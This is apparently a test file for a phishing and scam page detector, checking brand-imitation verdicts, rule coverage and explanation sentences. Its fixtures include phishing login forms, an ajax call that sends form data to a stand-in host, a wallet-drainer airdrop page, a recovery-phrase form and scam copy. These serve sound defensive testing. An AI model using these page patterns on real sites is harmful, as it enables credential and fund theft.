import { describe, expect, test } from 'vitest';
import { createJudgePage, type PageVerdict } from '../../../../server/verdicts/page/judge-page.ts';
import { PAGE_RULES } from '../../../../server/verdicts/page/rules/registry.ts';
import { savedPage } from '../../../../server/verdicts/page/saved-page.ts';
import { ADDRESS_SENTENCES } from '../../../../shared/reasons/address-sentences.ts';
import { PAGE_SENTENCES } from '../../../../shared/reasons/page-sentences.ts';
import { MALICIOUS_PAGE, readPageWeights, SAFE_PAGE, SIGNALS } from '../../../../server/verdicts/page/weights.ts';
import { IMITATIONS } from '../../../site/pages/imitations/imitations.ts';
import { POSTS_AND_PRIZES } from './posts-and-prizes-pages.ts';

const judge = createJudgePage();
const byUrlScore = (score: number) => () => ({ score });

function judged(html: string, url: string, urlScore = 0.5): PageVerdict {
  return judge(savedPage(html, url, byUrlScore(urlScore)));
}

describe('imitations and their honest twins', () => {
  test.each(IMITATIONS)('$description: $expected.verdict', ({ html, address, as, expected }) => {
    const { verdict, threat, brand, score } = judged(html, as ?? `https://${address}`);
    expect({ verdict, threat, brand: brand?.name ?? null }).toEqual(expected);
    if (verdict === 'MALICIOUS') expect(score).toBeGreaterThanOrEqual(MALICIOUS_PAGE);
    if (verdict === 'SAFE') expect(score).toBeLessThanOrEqual(SAFE_PAGE);
  });

  test('are told apart with any URL score', () => {
    const changed = IMITATIONS.filter(({ html, address, as, expected }) =>
      [0.01, 0.98].some(score => judged(html, as ?? `https://${address}`, score).verdict !== expected.verdict),
    );
    expect(changed.map(({ address }) => address)).toEqual([]);
  });

  test('are at least eighty, imitate at least twenty brands and are of every kind', () => {
    const imitated = IMITATIONS.filter(({ expected }) => expected.verdict === 'MALICIOUS');
    expect(IMITATIONS.length).toBeGreaterThanOrEqual(80);
    expect(new Set(imitated.map(({ expected }) => expected.brand)).size).toBeGreaterThan(20);
    expect(new Set(imitated.map(({ expected }) => expected.threat)).size).toBe(6);
  });
});

describe('a brand of many houses', () => {
  const login = (place: string) =>
    `<title>Login Online-Banking - ${place}</title><img alt="Sparkasse"><form><label>Anmeldename<input name="u"></label><label>PIN<input type="password" name="p"></label></form><footer>© ${place} Impressum Datenschutz Sicherheit</footer>`;

  test.each([
    ['Förde Sparkasse', 'https://www.foerde-sparkasse.de/'],
    ['Sparkasse Nordmark', 'https://banking.sparkasse-nordmark.de/'],
  ])('has one at %s', (place, url) => {
    expect(judged(login(place), url).verdict).toBe('SAFE');
  });

  test.each(['https://sparkasse-sicherheit-login.de/', 'https://sparkasse-nordmark.top/', 'https://anderswo.de/'])(
    'has none at %s',
    url => {
      expect(judged(login('Sparkasse'), url)).toMatchObject({ verdict: 'MALICIOUS', brand: { id: 'sparkasse' } });
    },
  );
});

test("a page on a brand's host belongs to that brand, whatever it shows", () => {
  const copied = IMITATIONS.filter(({ expected }) => expected.verdict === 'MALICIOUS');
  for (const { html } of copied) {
    const { verdict, brand } = judged(html, 'https://www.netflix.com/help');
    expect([verdict === 'MALICIOUS', brand?.name, brand?.relation]).toEqual([false, 'Netflix', 'genuine']);
  }
});

test('the sentence of every imitation names brand and host', () => {
  const page = IMITATIONS.find(({ address }) => address.startsWith('rabo-'));
  const { reasons, brand } = judged(page?.html ?? '', `https://${page?.address}`);
  expect(reasons[0]).toEqual({
    code: 'brand-asks-secret',
    message: 'Poses as Rabobank and asks for a bank account number and a password on rabo-beveiligd.example',
    evidence: expect.stringContaining('<title> “Inloggen - Rabobank”'),
    weight: readPageWeights().weights['brand-asks-secret'],
    params: { brand: 'Rabobank', wanted: ['account-number', 'password'], host: 'rabo-beveiligd.example' },
  });
  expect(brand).toMatchObject({ id: 'rabobank', relation: 'imitated' });
  expect(brand?.evidence).toContain("is not Rabobank's");
});

describe('rules', () => {
  test('each have a weight, and each weight has a rule', () => {
    expect(PAGE_RULES.map(({ code }) => code).toSorted()).toEqual(SIGNALS.map(({ code }) => code).toSorted());
  });

  test('each have a sentence, and each sentence has a rule', () => {
    const codes = PAGE_RULES.map(({ code }) => code).filter(code => !Object.hasOwn(ADDRESS_SENTENCES, code));
    expect(Object.keys(PAGE_SENTENCES).toSorted()).toEqual(codes.toSorted());
  });

  test('each match a page', () => {
    const unseen = new Set<string>(PAGE_RULES.map(({ code }) => code));
    const facts = {
      url: 'https://login.site.example/',
      redirects: ['https://a.example/', 'https://b.example/', 'https://c.example/'],
    };
    const pages: PageVerdict[] = IMITATIONS.map(({ html, address, as }) =>
      judged(html, as ?? `https://${address}`, 0.95),
    );
    const login = '<title>Login</title><form><input type="password"></form>';
    const saved = savedPage(login, facts.url, byUrlScore(0.999));
    for (const domainAgeDays of [1, 30, 4000])
      pages.push(judge({ ...saved, ...facts, domainAgeDays, certificateAgeDays: 1, threatList: 'a list' }));
    for (const url of ['http://1.2.3.4/', 'https://login.weebly.com/']) pages.push(judged(login, url));
    for (const [html, url] of SINGLE) pages.push(judged(html, url));
    for (const { reasons } of pages) for (const { code } of reasons) unseen.delete(code);
    expect([...unseen]).toEqual([]);
  });

  /** For rules that no page of the test web is about. */
  const pay = '<title>PayPal</title><img alt="PayPal"><form action="x.php"><input type="password" name="p"></form>';
  const SINGLE: readonly (readonly [html: string, url: string])[] = [
    ...POSTS_AND_PRIZES,
    [pay, 'http://pay.site.example/'],
    [pay, 'https://somebody.weebly.com/'],
    [pay.replace('x.php', 'https://other.example/x'), 'https://pay.site.example/'],
    [`${pay}<script>document.addEventListener('contextmenu',e=>e.preventDefault())</script>`, 'https://a.example/'],
    [
      `<title>Login</title><input type="password"><script>$.ajax({ url: 'https://b.example/in.php', data })</script>`,
      'https://a.example/',
    ],
    ['<title>Ledger</title><input type="password">', 'https://a.example/'],
    ['<title>Lindqvist</title><form><input name="dob" placeholder="Date of birth"></form>', 'https://a.example/'],
    [
      '<title>Rocket Fans</title><p>Get 1,000 free followers</p><input type="password"><button>Sign in</button>',
      'https://a.example/',
    ],
    ['<title>ACS</title><p>Verified by Visa: approve the payment in your banking app.</p>', 'https://a.example/'],
    ['<title>Login</title><img alt="Rabobank"><input type="password">', 'https://a.example/'],
    ['<title>cPanel Webmail</title><form action="send.php"><input type="password"></form>', 'https://a.example/'],
    ['<p>Vер1fy уоur ассоunt with Micrоsoft pаsswоrd</p>', 'https://a.example/'],
    [
      '<h1>Like videos and earn</h1><p>No experience needed, get paid daily, contact us on WhatsApp.</p>',
      'https://a.example/',
    ],
    [
      '<title>Dyson Lagerverkauf</title><button>In den Warenkorb</button><p>Räumungsverkauf: alles muss raus, 12 Personen sehen sich das an</p><p><s>499,00 €</s> 69,00 €</p><p>PayPal (derzeit nicht verfügbar)</p><p>Nachnahme (nicht verfügbar)</p><input autocomplete="cc-number"><script>n.textContent = 20 + Math.random() * 9; if (s > 0) { s--; } else { s = 600; }</script>',
      'https://a.example/',
    ],
    [
      '<title>Lumen Airdrop</title><a href="https://lumen.org/">Lumen</a><p>Claim your token airdrop with your wallet. If the wallet shows a warning, safely proceed.</p><button>Connect wallet</button><script>setInterval(()=>{debugger},9);const c={receiver:"0x4f1c09e7a1b2c3d4e5f60718293a4b5c6d7e8f90",use:"permit2"}</script>',
      'https://claim-lumen.example/',
    ],
    [
      '<title>Wallet fix</title><h1>Validate wallet</h1><p>Connect wallet: migration, revoke approvals, claim rewards, missing balance, gas fees, bridge, KYC</p><textarea name="phrase" placeholder="Recovery phrase"></textarea>',
      'https://a.example/',
    ],
    [
      '<title>BTC</title><p>To activate withdrawals, deposit 0.02 BTC first. It is not a fee. bc1q9h0yfkdx4ae5j3s7n2mzt8wv6c0r5p4l3k2u1e</p>',
      'https://a.example/',
    ],
    [
      '<title>Mining</title><p>Profit 2% daily. Plans from 50 USDT, referral 7%, principal back, instant withdrawal, guaranteed.</p>',
      'https://a.example/',
    ],
    [
      `<title>News</title>${['Politics', 'Sport', 'Log in', 'Economy', 'Quantum'].map(name => `<a href="#form">${name}</a>`).join('')}<p>As seen on TV: his secret. AI trading earns profit by itself, deposit 250 €, a week later he withdrew a million. 9 places left, only today. A personal manager will call you.</p><form><input name="email"><input name="phone"></form>`,
      'https://a.example/',
    ],
    [
      '<title>Reclaim</title><p>Lost money to fraud? We recover it: 98% success rate, ethical hackers, 48 hours, Interpol, an upfront deposit. Highly recommend.</p><a href="https://wa.me/1555">WhatsApp</a>',
      'https://a.example/',
    ],
  ];
});
